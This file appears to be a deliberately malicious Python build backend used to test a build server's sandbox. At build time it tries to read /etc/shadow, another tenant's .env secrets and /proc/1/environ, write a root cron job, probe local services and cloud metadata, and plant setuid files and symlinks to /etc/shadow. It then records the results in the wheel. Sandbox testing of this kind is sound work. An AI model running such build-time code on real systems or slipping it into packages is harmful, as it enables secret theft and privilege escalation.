"""
A build backend (PEP 517) that tries what it can while it builds, and tells of it in its wheel.
"""

import json
import os
import socket
import subprocess
import zipfile
from functools import partial
from pathlib import Path

NAME = "evil-1.0"
HERE = Path(__file__).parent


def build_wheel(folder, config_settings=None, metadata_directory=None):
    report = {name: tried(attack) for name, attack in ATTACKS.items()}
    wheel = f"{NAME}-py3-none-any.whl"
    info = f"{NAME}.dist-info"
    with zipfile.ZipFile(Path(folder, wheel), "w") as out:
        out.writestr("evil.py", f"REPORT = {json.dumps(report)}\n")
        out.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        out.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        out.writestr(
            f"{info}/RECORD", f"evil.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n"
        )
    return wheel


def tried(attack):
    """What *attack* came to: what it returned, or why it could not be."""
    try:
        return str(attack())
    except (OSError, subprocess.SubprocessError) as error:
        return f"held: {type(error).__name__}: {error}"


def listed(folder):
    return [each.name for each in Path(folder).iterdir()]


def connected(*address):
    with socket.create_connection(address, timeout=2):
        return "connected"


def sent(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as to:
        return f"sent {to.sendto(b'x', (host, 80))}"


def heard():
    """Whoever listens here, in any process of the server, could be handed an open file."""
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0mallory")
        return "connected"


def left_behind():
    silent = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
    child = subprocess.Popen(["sleep", "86123"], start_new_session=True, **silent)
    return f"left {child.pid}"


def target():
    return next(Path("/var/www").glob("*/venvs/*/bin")).parent


def setuid():
    path = target() / "bin/evil-setuid"
    path.write_bytes(b"#!/bin/sh\n")
    path.chmod(0o6777)
    return "made"


def open_to_all():
    path = target() / "bin/evil-open"
    path.write_text("anybody may write here")
    path.chmod(0o777)
    return "made"


def planted():
    """What the copy of the environment must never follow."""
    kind = (HERE / "plant").read_text() if (HERE / "plant").exists() else ""
    path = target() / "lib/planted"
    {
        "": str,
        "link": lambda: path.symlink_to("/etc/shadow"),
        "climbing link": lambda: path.symlink_to("../../../../.env"),
        "pipe": lambda: os.mkfifo(path),
        "sparse": lambda: os.truncate(os.open(path, os.O_CREAT | os.O_WRONLY), 1 << 43),
        "deep": partial(deep, path),
        "marker": (target() / ".cinestream.json").mkdir,
    }[kind]()
    return "made"


def deep(path):
    path.mkdir()
    os.chdir(path)
    for _ in range(3000):
        Path("a").mkdir()
        os.chdir("a")
    os.chdir("/")


ATTACKS = {
    "shadow": lambda: Path("/etc/shadow").read_text(),
    "specs": lambda: listed("/etc/cinestream"),
    "state": lambda: listed("/var/lib/cinestream"),
    "keys": lambda: listed("/etc/letsencrypt"),
    "logs": lambda: listed("/var/log"),
    "neighbour": lambda: listed("/var/www/alice"),
    "secrets": lambda: Path("/var/www/alice/.env").read_text(),
    "cron": lambda: Path("/etc/cron.d/evil").write_text("* * * * * root id\n"),
    "sources": lambda: Path("/var/www/mallory/src/evil.py").write_text(""),
    "memory": lambda: Path("/proc/1/environ").read_bytes(),
    "processes": lambda: Path("/proc/1/cmdline").read_bytes(),
    "worker": lambda: connected("127.0.0.1", 8001),
    "database": lambda: connected("127.0.0.1", 27017),
    "nginx": lambda: connected("127.0.0.1", 80),
    "loopback of IPv6": lambda: connected("::1", 22),
    "metadata": lambda: sent("169.254.169.254"),
    "abstract socket": heard,
    "bus": lambda: listed("/run/dbus"),
    "namespace": lambda: subprocess.run(["unshare", "-Ur", "id"], check=True),
    "setuid": setuid,
}  # fmt: skip
# What it may do, to no avail.
HARMLESS = {
    "user": os.geteuid,
    "capabilities": lambda: [
        line.split()[1]
        for line in Path("/proc/self/status").read_text().splitlines()
        if line.startswith(("CapEff", "CapBnd", "NoNewPrivs"))
    ],
    "child": left_behind,
    "shared memory": lambda: Path("/dev/shm/evil").write_text("for the next build"),
    "cache": lambda: Path(os.environ["UV_CACHE_DIR"], "evil").write_text("for the next build"),
    "temporary": lambda: Path("/var/tmp/evil").write_text("for the next build"),
    "open": open_to_all,
    "planted": planted,
}
HELD = list(ATTACKS)
ATTACKS.update(HARMLESS)
